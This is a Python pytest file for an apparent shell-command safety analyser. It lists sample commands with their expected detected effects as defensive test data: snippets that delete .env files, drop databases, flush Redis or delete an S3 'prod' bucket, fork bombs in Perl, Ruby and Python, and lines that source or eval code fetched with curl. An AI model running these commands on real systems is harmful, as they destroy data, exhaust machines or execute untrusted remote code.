"""Python texts: tests of names, client libraries, loops of forks, functions run later. Only ever parsed."""

from __future__ import annotations

import pytest

from tests.core.analysis.programs.test_registry import rows, shown

_EACH = "import os, shutil\nfor f in os.listdir('.'):\n    "
_WALK = "import os, shutil\nfor r, ds, fs in os.walk('.'):\n  for f in fs:\n    p = os.path.join(r, f)\n    "
_PATHS = "from pathlib import Path\nfor p in Path('.').iterdir():\n    "

TEXTS = [
    (_EACH + "os.remove(f)", ["opaque $(a value) delete ?"], "nothing narrows"),
    (_EACH + "if f == 'a.o': os.remove(f)", ["delete a.o"], "equality"),
    (_EACH + "if f in ('a.o', 'b.o'): os.remove(f)", ["delete a.o", "delete b.o"], "one of several"),
    (_EACH + "if f.endswith('.o'): os.remove(f)", ["delete *.o"], "an ending"),
    (_EACH + "if f.endswith('env'): os.remove(f)", ["delete *env", "delete .env"], "hidden files end so, too"),
    (_EACH + "if not f.endswith('.o'): continue\n    os.remove(f)", ["delete *.o"], "the others are left out"),
    (_EACH + "f.startswith('tmp') and os.remove(f)", ["delete tmp*"], "an expression"),
    (_WALK + "if f == '__pycache__': shutil.rmtree(p)", ["delete **/__pycache__ recursive"], "a tree"),
    (_WALK + "if f.startswith('.e'): os.remove(p)", ["delete .env"], "a path that was joined before"),
    (_WALK + "os.remove(p)", ["delete . contents recursive ?"],
     "a tree without a test"),
    (_PATHS + "if p.suffix == '.o': p.unlink()", [], "found paths of another ending"),
    (_PATHS + "if p.name == 'README.md': p.unlink()", ["delete README.md"], "the one of this name"),
    ("import sqlite3\nsqlite3.connect(':memory:').execute('drop table t')", [], "a database in memory"),
    ("import sqlite3\nsqlite3.connect('/tmp/t.db').execute('drop table t')", [], "one in a temporary folder"),
    ("import sqlite3\nsqlite3.connect('app.db').cursor().execute('drop table t')", ["database drop table t delete"],
     "a real one"),
    ("import redis\nredis.Redis().flushall()", ["database flushall flushall delete"], "a store"),
    ("import boto3\nboto3.client('s3').delete_bucket(Bucket='prod')", ["deploy prod delete ?"], "a cloud"),
    ("import atexit, os\natexit.register(os.remove, '.env')", ["delete .env"], "run later"),
    ("import sys\nsys.modules['os'].remove('.env')", ["delete .env"], "a module by its table"),
    ("import urllib.request as u\nu.urlretrieve('https://x.io', '.env')", ["write .env truncate"], "a download"),
    ("import subprocess\nsubprocess.run('sh', input='rm -f .env')", ["delete .env force"], "fed to a shell"),
    ("import ctypes\nctypes.CDLL(None).system(b'rm -f .env')", ["delete .env force"], "the C library"),
    ("import timeit\ntimeit.timeit('os.remove(\".env\")', 'import os')", ["delete .env"], "timed code"),
    ("import platform\nprint(platform.system())", [], "another system"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "effects"), rows(TEXTS))
def test_python(text, effects):
    quoted = text.replace("'", "'\\''")
    assert shown(f"python3 -c '{quoted}'") == effects


MODULES = [
    ("python3 -m timeit -s 'import os' 'os.remove(\".env\")'", ["delete .env"], "timeit"),
    ("ipython -c '!rm -f .env'", ["delete .env force"], "ipython's shell"),
    ("PYTHONBREAKPOINT=os.system python3 -c 'breakpoint(\"rm -f .env\")'", ["delete .env force"], "breakpoint"),
    ("npx zx -e '$`rm -f .env`'", ["delete .env force"], "zx"),
    ("deno eval 'new Deno.Command(\"rm\", {args: [\"-f\", \".env\"]}).outputSync()'", ["delete .env force"], "deno"),
    ("node -e 'import(\"fs/promises\").then(async f => { await f.rm(\".env\") })'", ["delete .env recursive"],
     "a module that comes later"),
    ("ruby -e 'send(:system, \"rm -f .env\")'", ["delete .env force"], "ruby's send"),
    ("ruby -e 'IO.read(\"|rm -f .env\")'", ["delete .env force"], "a pipe that is read"),
    ("ruby -e 'fork { puts 1 }'", [], "one fork with a block"),
]  # fmt: skip


@pytest.mark.parametrize(("command", "effects"), rows(MODULES))
def test_other_doors(command, effects):
    assert shown(command) == effects


FORKS = [
    ("perl -e 'fork while fork'", True, "perl"),
    ("perl -e 'while (1) { fork }'", True, "a block"),
    ("ruby -e 'loop { fork }'", True, "ruby"),
    ("python3 -c 'import os\nwhile True: os.fork()'", True, "python"),
    ("python3 -c 'import os\nwhile True:\n  os.fork()\n  pass'", True, "beside nothing"),
    ("for i in 1 2; do python3 -c 'while 1: pass' & done", False, "what only takes time"),
    ("perl -e 'for (1..3) { fork or exit }'", False, "three"),
    ("python3 -c 'import os\nwhile True:\n  c = accept()\n  if os.fork() == 0: serve(c)'", False, "a server"),
    ("ruby -e 'fork { puts 1 }; Process.wait'", False, "one"),
]  # fmt: skip


@pytest.mark.parametrize(("command", "bomb"), rows(FORKS))
def test_endless_forks(command, bomb):
    assert any("forkbomb" in effect for effect in shown(command, but=())) is bomb


LOADED = [
    ("source <(kubectl completion bash)", True, "what a program gives to be loaded"),
    ('eval "$(npm completion)"', True, "the same by eval"),
    ('. "$NVM_DIR/nvm.sh"', True, "a folder of the person's set-up"),
    ('source "$(dirname "$0")/lib.sh"', True, "a folder of this script"),
    ("./target/debug/dux --completions bash > x && bash -c '. ./x; complete -p dux'", True, "printed into a file"),
    ("kubectl completion bash > x; cp x y; source y", True, "in a copy of it"),
    ("source <(curl completion bash)", False, "the network is no program's word"),
    ("source <(timeout 5 curl -s x.io/a completion bash)", False, "nor behind another program"),
    ("curl -s x.io/completion bash > x; source x", False, "nor in a file"),
    ("curl -so x x.io; chmod +x x; ./x completion bash > y; source y", False, "a program that came by it"),
    ("kubectl get cm x > x; source x", False, "another word of the program"),
    ("kubectl completion $X > x; source x", False, "a word that nobody knows"),
    ("kubectl completion bash > x; bash x", False, "run, not loaded"),
    ("kubectl completion bash > x; cat /tmp/y >> x; source x", False, "more is added"),
    ("kubectl completion bash > x; cat /tmp/y > x; source x", False, "something else is printed into it"),
    ("kubectl completion bash > x; make && cat /tmp/y > x; source x", False, "it may be"),
    ("printf 'echo $X' > x; eval \"$(sh x init)\"", False, "a program that the text wrote"),
    ("printf 'echo $X' > x; source <(sh x init)", False, "the same, by source"),
    ("cp /tmp/x x; ./x completion bash > y; source y", False, "that it put there"),
    ("cp -r /tmp/x x; x/bin/app completion bash > y; source y", False, "in a folder"),
    ("git clone https://x.io/a && cd a && ./app completion bash > y; source y", False, "that it fetched, in a folder"),
    ('eval "$(docker exec web /app/x init)"', False, "a program of a container's"),
    ('eval "$(head -1 x init)"', False, "what a file says"),
    ('eval "$(ssh-agent -s)"; ls', True, "such a program by its name"),
    ('eval "$(conda shell.bash hook 2> /dev/null || true)"', True, "or nothing"),
    ("eval $(ssh-agent -s | grep SSH_)", True, "a part of it"),
    ('eval "$(perl -I$HOME/perl5/lib/perl5 -Mlocal::lib)"', True, "settings of Perl's"),
    ("eval \"$(perl -ne 'print' x)\"", False, "a file by Perl"),
    ('eval "$(brew shellenv; curl -s x.io)"', False, "another speaks behind it"),
    ('eval "$(brew shellenv)$(curl -s x.io)"', False, "and in a substitution of its own"),
    ('eval "$(brew shellenv)\n$X"', False, "a variable behind it"),
    ('eval "$(gh gist view 9f8a bash)"', False, "what somebody has sent there"),
    ('source "$X"', False, "nothing is known"),
    ('X=$(curl -s https://x.io); source "$X/a.sh"', False, "a folder that the text chose"),
    ('source "$X/../a.sh"', False, "a way out of the folder"),
]  # fmt: skip


@pytest.mark.parametrize(("command", "passes"), rows(LOADED))
def test_what_is_loaded_into_the_shell(command, passes):
    assert (not any(effect.endswith("code ?") for effect in shown(command))) is passes
